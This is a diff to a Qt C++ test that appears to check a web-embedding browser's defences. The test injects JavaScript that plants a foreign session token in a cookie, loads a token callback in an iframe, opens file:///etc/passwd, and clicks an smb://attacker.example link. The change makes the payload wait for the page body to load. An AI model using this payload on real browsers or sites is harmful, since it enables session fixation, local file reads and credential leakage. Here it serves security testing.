@@ -854,12 +854,16 @@ private slots:
         const QByteArray foreign = m_server->issueToken(QStringLiteral("mallory"));
         const QString callback =
             m_server->baseUrl().toString() + QStringLiteral("/api/user/token?token=") + QString::fromLatin1(foreign);
+        // The URL changes before the page's body exists: the attack waits for it.
         page->runJavaScript(
-            QStringLiteral("document.cookie = 'token=%1; path=/';"
+            QStringLiteral("(function () { function attack() {"
+                           "document.cookie = 'token=%1; path=/';"
                            "var f = document.createElement('iframe'); f.src = '%2'; document.body.appendChild(f);"
                            "window.open('file:///etc/passwd');"
                            "var a = document.createElement('a'); a.href = 'smb://attacker.example/share';"
-                           "document.body.appendChild(a); a.click();")
+                           "document.body.appendChild(a); a.click(); }"
+                           "if (document.body) attack(); else document.addEventListener('DOMContentLoaded', attack);"
+                           "})();")
                 .arg(QString::fromLatin1(foreign), callback));
         QTRY_VERIFY_WITH_TIMEOUT(m_server->requestCount(QStringLiteral("/api/user/token")) >= 1,
                                  20000); // the frame went there
